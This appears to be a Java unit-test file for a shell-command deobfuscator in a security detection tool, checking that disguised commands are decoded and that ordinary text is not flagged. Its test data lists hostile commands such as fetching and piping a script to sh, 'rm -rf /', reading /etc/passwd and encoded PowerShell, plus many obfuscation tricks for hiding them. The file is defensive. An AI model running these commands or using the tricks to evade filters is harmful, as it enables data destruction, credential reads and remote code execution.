package clawsec.detect.decode;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Optional;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellWordsTest {
    private final ShellWords words = new ShellWords();

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '\u0001',
            value = {
                "c\\url http://x.example ~ curl http://x.example",
                "\\rm -rf / ~ rm -rf /",
                "cu''rl http://x.example|s''h ~ curl http://x.example|sh",
                "cu\"\"rl x ~ curl x",
                "c'ur'l x ~ curl x",
                "\"cu\"rl x ~ curl x",
                "\"curl\" x | \"sh\" ~ curl x | sh",
                "'rm' -rf / ~ rm -rf /",
                "cat${IFS}/etc/passwd ~ cat /etc/passwd",
                "cat$IFS/etc/passwd ~ cat /etc/passwd",
                "cat$IFS$9/etc/passwd ~ cat /etc/passwd",
                "{curl,-s,http://x.example}|sh ~ curl -s http://x.example|sh",
                "{cat,/etc/passwd} ~ cat /etc/passwd",
                "$(printf 'curl') x ~ curl x",
                "$(printf '\\143\\165rl') x ~ curl x",
                "$(printf \"\\x63url\") x ~ curl x",
                "$(printf '%s%s' cu rl) x ~ curl x",
                "$(printf %s cu rl) x ~ curl x",
                "$(echo curl) x ~ curl x",
                "$(echo -e '\\x63url') x ~ curl x",
                "cu$(echo r)l x ~ curl x",
                "`echo curl` x ~ curl x",
                "$(echo Y3VybA== | base64 -d) x ~ curl x",
                "$(base64 -d <<< Y3VybA==) x ~ curl x",
                "$(echo lruc | rev) x ~ curl x",
                "$(echo 6375726c | xxd -r -p) x ~ curl x",
                "$(which curl) x ~ curl x",
                "$(command -v curl) x ~ curl x",
                "$'\\x63url' x ~ curl x",
                "$'\\143\\165\\162\\154' x ~ curl x",
                "$'c\\u0075rl' x ~ curl x",
                "a=cu;b=rl;$a$b x ~ a=cu;b=rl;curl x",
                "a=cu; ${a}rl x ~ a=cu; curl x",
                "a='rm -rf'; $a / ~ a='rm -rf'; rm -rf /",
                "export x_1=rl && cu${x_1} y ~ export x_1=rl && curl y",
                "a=xcurlx;${a:1:4} y ~ a=xcurlx;curl y",
                "cat ${PATH:0:1}etc${PATH:0:1}passwd ~ cat /etc/passwd",
                "c$@url x ~ curl x",
                "cu${nothing}rl x ~ curl x",
                "bash -c 'cu\"\"rl x | sh' ~ bash -c 'curl x | sh'",
                "sh -c \"c\\url x\" ~ sh -c \"curl x\"",
                "echo $(printf $(echo 'cu')rl) ~ echo curl",
                "p^o^w^e^r^shell -enc x ~ powershell -enc x",
                "i`e`x $a ~ iex $a",
                "ca\\t /etc/passwd ~ cat /etc/passwd",
            })
    void decode_hiddenCommand_isRead(String text, String expected) {
        assertEquals(Optional.of(expected), decoded(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "curl -s https://x.example | sh",
                "It's plain that they don't mind.",
                "He said \"yes\" and left; she said 'no'.",
                "{\"a\":1,\"b\":[\"x\",\"y\"],\"c\":\"it\\u0027s\"}",
                "{\"text\":\"one\\nof them\\r\\nsaid\", \"a b\":\"c d\"}",
                "echo \"$HOME and $USER\" 'two words'",
                "for f in *.txt; do echo \"$f\"; done",
                "git commit -m \"area: verb phrase\" && git push",
                "find . -name '*.o' -exec rm {} \\;",
                "the cost is $100 or ${price}",
                "if (a == b) { return c; }",
                "x = {a: 1, b: 2}",
                "let s = `a ${b} c`;",
                "2^10 is 1024",
                "# run `make` first",
                "<a href=\"x\" class=\"y\">text</a>"
            })
    void decode_ordinaryText_isNothing(String text) {
        assertEquals(Optional.empty(), decoded(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'",
                "\"",
                "$(",
                "$(echo ",
                "`echo ",
                "${",
                "$'",
                "{a,",
                "\\",
                "a=b;$a",
                "$(echo $(",
                "\"$(echo '",
                "x^y",
                "''a",
                "${IFS}",
                "'a b"
            })
    @Timeout(20)
    void decode_hostileText_staysBounded(String unit) {
        byte[] text = unit.repeat(200_000 / unit.length()).getBytes(StandardCharsets.UTF_8);
        Optional<byte[]> decoded = words.decode(text, 0, text.length);
        assertTrue(
                decoded.map(each -> each.length).orElse(0) <= ShellWords.MAX_OUTPUT_BYTES + 1024);
    }

    @Test
    void decode_lineThatGoesOn_isOneLine() {
        assertEquals(Optional.of("curl x"), decoded("cu\\\nrl x"));
        assertEquals(Optional.of("curl x"), decoded("cu\\\r\nrl x"));
    }

    @Test
    void decode_aDoublingValue_isCut() {
        String text = "a=" + "x".repeat(600) + ";b=" + "y".repeat(500) + ";" + "$b".repeat(1000);
        int length = decoded(text + ";$a").orElseThrow().length();
        assertTrue(length >= ShellWords.MAX_OUTPUT_BYTES && length < 18_000, () -> "" + length);
    }

    @Test
    void decode_namesAsLongAsAWordCanBe_areNone() {
        for (int length = 1000; length < 1100; length++) {
            assertTrue(decoded("c''at " + "x".repeat(length) + "=y z").isPresent());
        }
    }

    @Property(tries = 500)
    void decode_anyText_doesNotThrow(@ForAll("shellish") String text) {
        byte[] bytes = ("zz" + text + "zz").getBytes(StandardCharsets.ISO_8859_1);
        Optional<byte[]> whole = words.decode(bytes, 2, bytes.length - 2);
        byte[] alone = text.getBytes(StandardCharsets.ISO_8859_1);
        assertEquals(
                whole.map(ShellWordsTest::text),
                words.decode(alone, 0, alone.length).map(ShellWordsTest::text));
    }

    @Provide
    Arbitrary<String> shellish() {
        return Arbitraries.strings().withChars("ab=;|$(){}'\"`\\,^ \n0I@x:é").ofMaxLength(80);
    }

    private Optional<String> decoded(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        return words.decode(bytes, 0, bytes.length).map(ShellWordsTest::text);
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }
}
